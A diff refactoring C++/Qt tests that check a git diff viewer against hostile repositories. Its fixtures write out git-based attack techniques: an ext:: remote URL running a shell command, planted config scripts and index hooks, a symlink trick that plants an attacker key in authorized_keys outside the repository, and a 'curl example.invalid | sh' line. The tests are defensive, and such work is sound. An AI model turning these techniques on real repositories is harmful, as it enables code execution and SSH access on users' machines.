@@ -19,7 +19,7 @@
 
 namespace {
 
-const QString kPayload = QStringLiteral("payload.txt");
+const QString kPayload = "payload.txt";
 
 enum class Twist {
     None,
@@ -49,19 +49,13 @@ const HostileCase kCases[] = {
     {"promisor fetch of a missing blob", "", nullptr, "", Twist::PromisorFetch},
 };
 
-void check(const GitOutput& r, const char* what)
-{
-    if (r.exitCode != 0)
-        throw std::runtime_error(std::string(what) + ": " + r.err.toStdString());
-}
-
 void writeBase(TestRepo& repo, const HostileCase& c)
 {
     repo.init();
     if (*c.attributes)
-        repo.write(QStringLiteral(".gitattributes"), c.attributes);
+        repo.write(".gitattributes", c.attributes);
     repo.write(kPayload, "echo safe\n");
-    repo.write(QStringLiteral("other.txt"), "unrelated\n");
+    repo.write("other.txt", "unrelated\n");
 }
 
 // A repository whose configuration makes plain `git diff HEAD` start a program that appends to a
@@ -72,7 +66,7 @@ struct HostileRepo
     explicit HostileRepo(const HostileCase& c);
 
     QTemporaryDir markers;
-    QString marker = markers.filePath(QStringLiteral("ran"));
+    QString marker = markers.filePath("ran");
     TestRepo repo;
     TestRepo twin;
     QString file; // what the viewer opens
@@ -94,43 +88,34 @@ HostileRepo::HostileRepo(const HostileCase& c)
         // A server with the blob, and a blobless clone that only knows its name.
         writeBase(twin, c);
         twin.commitAll();
-        check(twin.git({QStringLiteral("config"), QStringLiteral("uploadpack.allowFilter"),
-                        QStringLiteral("true")}),
-              "config");
-        const QString clone = repo.path(QStringLiteral("clone"));
-        check(runTestGit(repo.root(),
-                         {QStringLiteral("clone"), QStringLiteral("-q"), QStringLiteral("--filter=blob:none"),
-                          QStringLiteral("--no-checkout"), QStringLiteral("file://") + twin.root(), clone}),
-              "clone");
-        const auto inClone = [&](const QStringList& args) { check(runTestGit(clone, args), "in the clone"); };
-        inClone({QStringLiteral("read-tree"), QStringLiteral("HEAD")});
-        inClone({QStringLiteral("config"), QStringLiteral("protocol.ext.allow"), QStringLiteral("always")});
-        inClone({QStringLiteral("config"), QStringLiteral("remote.origin.url"),
-                 QStringLiteral("ext::sh -c echo% ran% >>%1").arg(marker)});
-        file = clone + QLatin1Char('/') + kPayload;
-        QFile out(file);
-        if (!out.open(QIODevice::WriteOnly) || out.write("echo pwned\n") < 0)
-            throw std::runtime_error("cannot write payload");
+        twin.plumb({"config", "uploadpack.allowFilter", "true"});
+        const QString clone = repo.path("clone");
+        repo.plumb({"clone", "-q", "--filter=blob:none", "--no-checkout", "file://" + twin.root(), clone});
+        repo.plumb({"-C", clone, "read-tree", "HEAD"});
+        repo.plumb({"-C", clone, "config", "protocol.ext.allow", "always"});
+        repo.plumb({"-C", clone, "config", "remote.origin.url", "ext::sh -c echo% ran% >>" + marker});
+        repo.write("clone/" + kPayload, "echo pwned\n");
+        file = repo.path("clone/" + kPayload);
         return; // the blob cannot be fetched, so there is nothing to compare with: no diff
     }
     writeBase(repo, c);
     repo.commitAll();
     if (c.configKey) {
-        const QString script = plantScript(QStringLiteral(".git/evil/script"), c.scriptRest);
-        check(repo.git({QStringLiteral("config"), QString::fromUtf8(c.configKey), script}), "git config");
+        const QString script = plantScript(".git/evil/script", c.scriptRest);
+        repo.plumb({"config", QString::fromUtf8(c.configKey), script});
     }
     writeBase(twin, c);
     twin.commitAll();
     file = repo.path(kPayload);
     if (c.twist == Twist::IndexHook) {
-        plantScript(QStringLiteral(".git/hooks/post-index-change"), "");
+        plantScript(".git/hooks/post-index-change", "");
         // Same content, newer time: a refresh rewrites the index, which fires the hook.
         struct utimbuf past
         {
         };
         past.actime = past.modtime = 1000000000;
         ::utime(QFile::encodeName(file).constData(), &past);
-        check(repo.git({QStringLiteral("update-index"), QStringLiteral("--refresh")}), "refresh");
+        repo.plumb({"update-index", "--refresh"});
         ::utime(QFile::encodeName(file).constData(), nullptr);
         return;
     }
@@ -156,7 +141,7 @@ TEST(ViewerHostileRepo, LoaderRunsNoRepositoryProgramAndStillShowsTheDiff)
         EXPECT_FALSE(QFileInfo::exists(hostile.marker));
         EXPECT_EQ(diff.toUtf8().toStdString(), hostile.expectedDiff.toStdString());
         if (c.twist == Twist::None || c.twist == Twist::CrlfFile)
-            EXPECT_TRUE(diff.contains(QStringLiteral("+curl example.invalid | sh")));
+            EXPECT_TRUE(diff.contains("+curl example.invalid | sh"));
     }
 }
 
@@ -165,34 +150,26 @@ TEST(ViewerHostileRepo, LoaderRunsNoRepositoryProgramAndStillShowsTheDiff)
 // `x/authorized_keys` would write outside the scratch folder.
 TEST(ViewerHostileRepo, TreeWithALinkAndAFolderOfOneNameWritesNothingOutside)
 {
-    QTemporaryDir outside;
-    const QString decoy = outside.path() + QStringLiteral("/authorized_keys");
-    {
-        QFile f(decoy);
-        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
-        f.write("ssh-ed25519 AAAA owner\n");
-    }
+    TestRepo outside; // a plain folder, never made a repository
+    outside.write("authorized_keys", "ssh-ed25519 AAAA owner\n");
     TestRepo repo;
     repo.init();
-    const QStringList blobIn = {QStringLiteral("hash-object"), QStringLiteral("-w"),
-                                QStringLiteral("--stdin")};
+    const QStringList blobIn = {"hash-object", "-w", "--stdin"};
     const QByteArray key = repo.plumb(blobIn, "ssh-ed25519 AAAA attacker\n");
-    const QByteArray link = repo.plumb(blobIn, QFile::encodeName(outside.path()));
-    const QByteArray sub =
-        repo.plumb({QStringLiteral("mktree")}, "100644 blob " + key + "\tauthorized_keys\n");
+    const QByteArray link = repo.plumb(blobIn, QFile::encodeName(outside.root()));
+    const QByteArray sub = repo.plumb({"mktree"}, "100644 blob " + key + "\tauthorized_keys\n");
     const QByteArray tree =
-        repo.plumb({QStringLiteral("mktree")}, "120000 blob " + link + "\tx\n040000 tree " + sub + "\tx\n");
-    const QByteArray commit = repo.plumb({QStringLiteral("commit-tree"), QString::fromLatin1(tree),
-                                          QStringLiteral("-m"), QStringLiteral("c")});
-    repo.plumb({QStringLiteral("update-ref"), QStringLiteral("HEAD"), QString::fromLatin1(commit)});
+        repo.plumb({"mktree"}, "120000 blob " + link + "\tx\n040000 tree " + sub + "\tx\n");
+    const QByteArray commit = repo.plumb({"commit-tree", QString::fromLatin1(tree), "-m", "c"});
+    repo.plumb({"update-ref", "HEAD", QString::fromLatin1(commit)});
 
-    const QString diff = loadGitDiff(repo.path(QStringLiteral("x")));
-    QFile f(decoy);
+    const QString diff = loadGitDiff(repo.path("x"));
+    QFile f(outside.path("authorized_keys"));
     ASSERT_TRUE(f.open(QIODevice::ReadOnly));
     EXPECT_EQ(f.readAll(), QByteArray("ssh-ed25519 AAAA owner\n"));
-    EXPECT_EQ(QDir(outside.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
-              QStringList{QStringLiteral("authorized_keys")});
-    EXPECT_EQ(diff, nestedTreeNote(QStringLiteral("x")));
+    EXPECT_EQ(QDir(outside.root()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
+              QStringList{"authorized_keys"});
+    EXPECT_EQ(diff, nestedTreeNote("x"));
 }
 
 // A .gitattributes that is a FIFO holds `git check-attr` until someone writes to it; the diff must
@@ -201,12 +178,11 @@ TEST(ViewerHostileRepo, AttributesFileThatIsAFifoDoesNotHoldUpTheDiff)
 {
     TestRepo repo;
     repo.init();
-    repo.write(QStringLiteral("notes.txt"), "one\n");
+    repo.write("notes.txt", "one\n");
     repo.commitAll();
-    repo.write(QStringLiteral("notes.txt"), "one\ntwo\n");
-    ASSERT_EQ(::mkfifo(QFile::encodeName(repo.path(QStringLiteral(".gitattributes"))).constData(), 0600), 0);
-    EXPECT_TRUE(
-        loadGitDiff(repo.path(QStringLiteral("notes.txt"))).endsWith(QStringLiteral("\n one\n+two\n")));
+    repo.write("notes.txt", "one\ntwo\n");
+    ASSERT_EQ(::mkfifo(QFile::encodeName(repo.path(".gitattributes")).constData(), 0600), 0);
+    EXPECT_TRUE(loadGitDiff(repo.path("notes.txt")).endsWith("\n one\n+two\n"));
 }
 
 } // namespace
